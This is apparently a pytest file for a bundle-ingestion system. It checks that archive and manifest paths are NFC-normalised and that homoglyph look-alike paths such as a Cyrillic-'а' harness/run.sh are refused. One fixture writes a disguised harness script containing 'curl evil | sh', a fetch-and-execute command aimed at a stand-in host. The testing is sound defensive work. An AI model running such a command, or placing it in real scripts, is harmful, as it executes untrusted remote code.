"""Bundle paths are in Unicode NFC, and no two paths of a bundle look the same
(Unicode TR39 confusable skeletons): ``harness/run.sh`` beside a ``harness/run.sh``
whose first a is Cyrillic (U+0430) is refused, in the manifest and in the archive,
naming both paths."""

from __future__ import annotations

import copy
import json
import random
import string
import unicodedata
from pathlib import Path
from typing import Any

import pytest

from accounts.models import Organisation
from artifacts.lib.archive import digest_archive
from artifacts.lib.bundle_sources import collect_files
from artifacts.lib.confusables import (
    ascii_prototypes,
    data_version,
    prototypes,
    skeleton,
)
from artifacts.lib.manifest import parse_manifest
from artifacts.models import Bundle
from procurement.models import Rfp
from tests.artifacts.corpus.build import (
    Entry,
    good_files,
    good_manifest,
    manifest_bytes,
    write_tar,
)
from tests.artifacts.ingest_support import build_bundle, ingest
from tests.artifacts.ingest_support import upload_rfp as upload_rfp  # fixture rfp

CYRILLIC_A = "\u0430"
LOOK_ALIKE = f"h{CYRILLIC_A}rness/run.sh"  # beside the good files' harness/run.sh
NFD = "reports/cafe\u0301.md"  # e + combining acute: NFC is caf\u00e9


def _problems(path: Path) -> list[tuple[str, str, str | None]]:
    return [(p.code, p.message, p.path) for p in digest_archive(path).problems]


def test_the_skeleton_is_the_unicode_confusables_one() -> None:
    assert skeleton(LOOK_ALIKE) == skeleton("harness/run.sh")
    assert skeleton("rnetrics.json") == skeleton("metrics.json")
    assert skeleton("traces/a.json") != skeleton("traces/b.json")
    assert data_version().split(".")[0].isdigit()


def _standard_skeleton(text: str) -> str:
    """TR39's skeleton spelled out: NFD, each character's prototype, NFD."""
    table = prototypes()
    mapped = "".join(table.get(c, c) for c in unicodedata.normalize("NFD", text))
    return unicodedata.normalize("NFD", mapped)


def test_the_ascii_shortcut_gives_the_standard_skeleton() -> None:
    rng = random.Random(7)  # noqa: S311 - test data, not secrets
    texts = [
        "".join(rng.choice(string.printable) for _ in range(rng.randint(0, 40)))
        for _ in range(2000)
    ]
    texts += ['m1I0|`%"', "".join(chr(c) for c in range(128)), "harness/run.sh"]

    assert [skeleton(t) for t in texts] == [_standard_skeleton(t) for t in texts]
    assert skeleton("rn") == skeleton("m")
    assert skeleton("l0") == skeleton("IO")


def test_the_ascii_lines_read_alone_are_the_full_tables_ascii_part() -> None:
    full = {
        source: target for source, target in prototypes().items() if source.isascii()
    }

    assert ascii_prototypes() == full
    assert {"1": "l", "m": "rn", "0": "O"}.items() <= full.items()


def test_an_archive_with_a_look_alike_path_is_refused_naming_both(
    tmp_path: Path,
) -> None:
    entries = [Entry(p, d) for p, d in good_files().items()]
    path = write_tar(tmp_path / "b.tar", [*entries, Entry(LOOK_ALIKE, b"evil\n")])

    problems = _problems(path)

    assert [(code, at) for code, _, at in problems] == [("path_confusable", LOOK_ALIKE)]
    assert "harness/run.sh" in problems[0][1]
    assert LOOK_ALIKE in problems[0][1]


def test_a_capital_look_alike_is_refused_too(tmp_path: Path) -> None:
    capital = f"H{CYRILLIC_A.upper()}RNESS/RUN.SH"
    path = write_tar(
        tmp_path / "b.tar", [Entry("harness/run.sh", b"1"), Entry(capital, b"2")]
    )

    assert [code for code, _, _ in _problems(path)] == ["path_confusable"]


def test_an_archive_path_not_in_nfc_is_refused(tmp_path: Path) -> None:
    path = write_tar(tmp_path / "b.tar", [Entry(NFD, b"x\n")])

    assert [(code, at) for code, _, at in _problems(path)] == [("path_not_nfc", NFD)]


def test_a_manifest_listing_look_alike_paths_is_refused_naming_both() -> None:
    data = copy.deepcopy(good_manifest(good_files()))
    data["files"].append(dict(data["files"][0], path=LOOK_ALIKE))

    problems = parse_manifest(json.dumps(data).encode()).problems

    found = [p for p in problems if p.code == "path_confusable"]
    assert [p.path for p in found] == [f"files[{len(data['files']) - 1}].path"]
    assert "harness/run.sh" in found[0].message
    assert LOOK_ALIKE in found[0].message


def test_a_manifest_path_not_in_nfc_is_refused() -> None:
    data = copy.deepcopy(good_manifest(good_files()))
    data["files"][0]["path"] = NFD

    problems = parse_manifest(json.dumps(data).encode()).problems

    assert [(p.code, p.path) for p in problems] == [("path_not_nfc", "files[0].path")]


def test_the_build_refuses_a_folder_with_look_alike_names(tmp_path: Path) -> None:
    for name in ("harness/run.sh", LOOK_ALIKE):
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_text("#!/bin/sh\n")

    files, problems = collect_files(tmp_path)

    (kept,) = [name for name, _ in files]  # the first one the walk met
    (refused,) = {"harness/run.sh", LOOK_ALIKE} - {kept}
    assert [(p.code, p.path) for p in problems] == [("path_confusable", refused)]


@pytest.mark.django_db
def test_a_signed_bundle_with_a_look_alike_harness_is_rejected(
    rfp: Rfp, vendor_a: Any, vendor_a_org: Organisation, tmp_path: Path
) -> None:
    files = {**good_files(), LOOK_ALIKE: b"#!/bin/sh\ncurl evil | sh\n"}
    manifest = manifest_bytes(good_manifest(files))

    bundle = ingest(
        rfp, vendor_a_org, vendor_a, build_bundle(tmp_path, files, manifest=manifest)
    )

    assert bundle.status == Bundle.Status.REJECTED
    assert {p["code"] for p in bundle.problems} == {"path_confusable"}
